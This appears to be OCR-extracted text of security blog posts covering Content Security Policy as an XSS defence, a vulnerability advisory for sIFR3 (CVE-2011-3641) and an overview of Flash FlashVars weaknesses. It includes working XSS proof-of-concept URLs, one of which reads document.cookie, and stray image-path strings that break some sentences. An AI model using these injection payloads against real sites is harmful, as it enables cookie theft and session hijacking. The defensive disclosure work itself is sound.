XSS is a complex issue, as is evident by the recommendations in the OWASP prevention “cheat sheets” for XSS in general and DOM based XSS. Overall, CSP does several things to help app developers deal with XSS.Whitelist Content Locations
One reason XSS is quite harmful is that browsers implicitly trust the content received from the server, even if that content has been manipulated and is loading from an unintended location. This is where CSP provides protection from XSS: CSP allows app developers to declare a whitelist of trusted locations for content. Browsers that understand CSP will then respect that list, load only content from there, and ignore content that references locations outside the list.

No Inline Scripts
XSS is able to add scripts inline to content, because browsers have no way of knowing whether the site actually sent that content, or if an attacker added the script to the site content. CSP entirely prevents this by forcing the separation of content and code (great design!). However, this means that you must move all of your scripts to external files, which will require work for most apps − although it can be done. The upside of needing to follow this procedure is that in order for an attack to be successful with CSP, an attacker must be able to:
Step 1.  Inject a script tag at the head of your page
Step 2.  Make thatscript tag load from a trusted site within your whitelist
Step 3.  Control the referenced script at that trusted site

Thus, CSP makes an XSS attack significantly more difficult.

Note: One question that consistently comes up is what about event handling? Yes, CSP still allows event handling through the onXXX handlers or the addEventListener mechanism.

No Code from Strings (eval dies)
Another welcome addition to CSP is the blacklisting of functions that create code from strings. This means that usage of the evil eval is eliminated (along with a few other evals). Creating code from strings is a popular attack technique − and is rather difficult to trace − so the removal of all such functions is actually quite helpful.

Another common question stemming from the use of CSP is how to deal with JSON parsing. From a security perspective, the right way to do this has always been to actually parse the JSON instead of doing an eval anyway; and because this functionality is still available, nothing needs tochange in this regard.

Policy Violation Reporting
A rather cool feature of CSP is that you can configure your site to have a violation reporting handler, which then lets you have that data available whether you run in either report-only mode or enforcing mode. In report-only mode, you can get reports of locations in your site where execution will be prevented when you enable CSP (a nice way to test). In enforcing mode, you will also get this data; while in production, you can also use this method as a simple XSS detection mechanism (resulting in “bad guy tried XSS and it didn’t run”).

What should I do about the availability of CSP?Well, you should use it! Actually, CSP seems to be free from having any downside. It’s there to make your site safer, and even if a client’s browser does not support it, it isentirely backwards-compatible, so your site will not break for the client.

In general, I think the basic approach with CSP should be:

Step 1.  Solve XSS through your standard security development practices (you should already be doing this)
Step 2.  Learn about CSP – read the specs thoroughly
Step 3.  Make the changes to your site; then test and re-test (normal dev process)
Step 4.  Run in report-only mode and monitor any violations in order to find areas you still need to fix (this step can be skipped if you have a fully functional test suite that you can execute against your app in testing – good for you, if you do!)
Step 5. After you’re confident that your site is working properly, turn it on to the enforcing mode

As for how you actually implement CSP, you have two basic options: (1) an HTTP header, and (2) a META tag. The header option is preferred, and an example is listed below:

Content-Security-Policy: default-src ‘self';

img-src *;

object-src media1.example.com media2.example.com *.cdn.example.com;script-src trustedscripts.example.com;

report-uri http://example.com/post-csp-report

The example above says the following:

Line 1: By default, only allow content from ‘self’ or from the site represented by the current url
Line 2: Allow images from anywhere
Line 3: Allow objects from only the listed urls
Line 4: Allow scripts from only the listed url
Line 5: Use the listed url to report any violations of the specified policy

In summary, CSP is a very interesting and useful new technology to help battle XSS. It’s definitely a useful tool to add to your arsenal.


sIFR3 Cross Site Scripting


WhiteHat Security Vulnerability Advisory

Affected Product:   scalable Inman Flash Replacement (sIFR) version 3Vulnerability:   Cross Site Scripting

CVE ID:   CVE-2011-3641

Affected Versions:   sIFR3 r436 and prior

Vendor Homepage:   http://wiki.novemberborn.net/sifr3/

Description:   sIFR3 allows for the use of non-free fonts within a web application via Adobe Flash plugin. The sIFR3 module interfaces with an external JS file and utilizes the parameter “version” to ensure the two files are compatible. The textField that is displayed upon invalid input in the “version” parameter supports limited HTML rendering and allows for remote code execution Cross Site Scripting. An attacker can render arbitrary images that execute malicious javascript and in Adobe Flash player 10.3 and prior include a large break space to remove the encapsulating error message.

Proof of Concept:

/cochin.swf?version=<a href="javascript:confirm(document.cookie)"><imgsrc="Attacker_Image.jpg"/></a><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/><br/>


Recompile any affected modules with the latest release (r437) which can be obtained from the vendor’s website: http://dev.novemberborn.net/sifr3/nightlies/sifr3-r437-CVE-2011-3641.zipEditor’s note: Portions of this blog, including the headline, were edited by the author on December 9 after a CVE was assigned and the correct name had been given to the vuln.

TheAnywhere Internet and the Nowhere Security

It used to be that if you wanted to do something on the computer, you’d boot up your PC or Mac and open a piece of installed software to go about your business.

Those were the simple times.

Now though, with the explosion of Internet-connected smartphones and software-as-a-service, the hardware-based operating system and all the protections that come with it have gone out the door. Firewalls, antivirus software, and heavily secured system coding have all been rendered useless as applications delivered through the Web to your mobile device or computer have become the new operating systems. In the past six months, we have seen literally hundreds of breaches affecting hundred of millions of consumers. From your local bank to three-letter government agencies, all have had Web-facing presences that were epically breached.

This shift in computing and the consumption of software has also shifted the perceptions of who and how online security is to be handled. Where before, your safety was assumed to be coming from the operating system and a handful of third-party AV solutions, now it is up to the expert coding of those writing the applications we dutifully use. As these applications have become increasingly powerful and linked to all of our devices, our personal data has moved to the Internet with them, meaning, theoretically, that anyone with Internet access could potentially steal that information.

Themobile paradigm brings a new problem of insecurity as well, as not only is your data accessible via the Internet on your device, but you can physically lose a cell phone much more easily than a computer. So now your data can be either digitally or physicallystolen and it’s up to developers to make sure that any digital information remains safe from being compromised.

The rise of the application as the de facto way to function today means that there is a huge burden placed on the companies who normally just provided operating systems.

Vulnerabilities in a Flash


Flash Player-related vulnerabilities currently account for approximately 14% of all Web application vulnerabilities discovered by WhiteHat Security. This statistic is surprisingly high considering that HTTP Archive reports 47% of Web applications are currently using Flash technology.

Flash Media Player is an effective method for delivering stylish vector graphics across multiple platforms to enrich a Web user’s experience. When properly designed, Flash makes a website visit interactive and fun.Unfortunately, Flash can also introduce vulnerabilities to an otherwise safe application. Many Flash developers are primarily designers who may have some programming experience, but little – if any – knowledge about Web security.

Flash Player itself has many security restrictions and policies, but users often misunderstand them – or even purposely disabled them to get a particular feature to “work.” Among many Flash designers, there’s also a common misconception that the Flash framework will provide all the protection their applications need.

One of the most frequent comments I get about Flash vulnerabilities is, “Doesn’t my cross-domain policy file protect me from that problem?” Well, the cross-domain policy file does prevent cross-domain data loading for execution; but it is a unidirectional permission that the server hosting the data file grants. The permission does not come from the Flash file. Some people may find the cross-domain policy file to be “backwards” compared to what they expect, and in many attack scenarios the Flash file will first seek permission from the attacker’s domain before initiating the attack.

Flash Player has an in-depth security sandbox model based on the domain where the Flash file is embedded, and I will discuss the scenarios for when a sandbox policy applies and how that policy can be bridged or bypassed – but in a later blog post. In this post I’mgoing to focus on the simplest and most prevalent method used today on the Web to exploit Flash files – unsanitized FlashVars.


Flash Player supports several methods to declare variables that are to be used in the resulting content. The two most common techniques are: (1) to declare FlashVars in a related javascript block,  or (2) via the param tag within an embed. A third, and sometimes overlooked, method to declare variables is by directly referencing them in a URL query string. Many Flash designers build theirprojects based primarily on flexibility in order to allow greater customization and wider distribution, but these “features” often allow attackers to make their own customizations – and then exploit the  application.

Typical banner ad with FlashVars to specify remote image and link:

<param name="movie" value="swf/banner.swf" />
<param name="img" value="image1.jpg" />
<param name="link" value="http://www.whitehatsec.com" />
<embed src="swf/banner.swf" flashvars="img=image1.jpg&link=http://www.whitehatsec.com" />

Attackers link to SWF:



FlashVars with HTML Support

If a Flash file is compiled for HTML support for a given textbox, then an attacker can inject a limited subset of HTML characters to achieve remote code execution. Flash framework supports two main HTML tags that are of interest to an attacker: ANCHOR and IMAGE. A simple SWF file that reflects user input can be used to execute malicious javascript when a user clicks on the file.

Attackers NameTag:

http://www.example.com/swf/nameTag.swf?name=<a href="javascript:confirm(1)">Haxor</a>


Server Filter Bypass

With the exception of Internet Explorer, Flash Player will evaluate a query string behind a hash character in all browsers. When a URL querystring is placed behind a hash character the browser will not forward the query string with the request for the Flash file, thus allowing an attacker to bypass any attempt at server filtering.



Internet Explorer Sandbox Bypass

When directly rendering a Flash file in Internet Explorer the browser will first construct an encapsulating document in the DOM to embed the Flash file. The browser will then put in place a security restriction so that the related content will have no access to the related DOM information of the current domain. As in many Microsoft programs, this was a brilliant concept, but the QA performed was inadequate to ensure that it became an effective security measure. So the fact is, if a Flash file containing malicious javascript is reloaded, it will immediately bridge the security control and give an attacker access to the DOM. The victim clicks once, which initiates the reload; then, thinking nothing has happened, clicks the second time – and gets owned.



A recent Flash 0-day that allowed an attacker to submit arbitrary HTTP headers to an application was the result of an unhandled 307 redirection from a domain controlled by an attacker. Flash Player has always had limitations handling HTTP responses if it receives anything other than a 200 OK. The problem stems from lack of insight into how a given HTTP request is handled by the Web browser. Firefox 4 contains a new API that hopes to remediate this issue by providing additional insight for browser plugins. If a Flash file utilizes an external configuration file an attacker can bypass any attempt to restrict data loading from a given domain if the domain also contains an open redirection. The Flash file will verify that the initial request is for a trusted domain, but will load the malicious configuration file residing on the attacker’s domain.


Proof of Concept

The following video demonstrates the common issue of Flash files targeting external XMLconfigurations via FlashVars without properly validating the XML file that resides on a trusted domain. Camtasia Studio’s popular presentation software was used to produce the video, which shows the vulnerabilities present in Camtasia’s own ExpressShow SWF files. The developer of the files, Techsmith, has addressed this issue with a patch that must be manually applied (available via Techsmith Security Bulletin 5). The patch restricts generated Flash files to loading XML configurations that reside on the same domain as the Flash file.HTTP Archive
Guya.net – Flash Bug in Internet Explorer Security Model
OWASP Flash Security Project



Jason Calvert @mystech7
Application Security Engineer
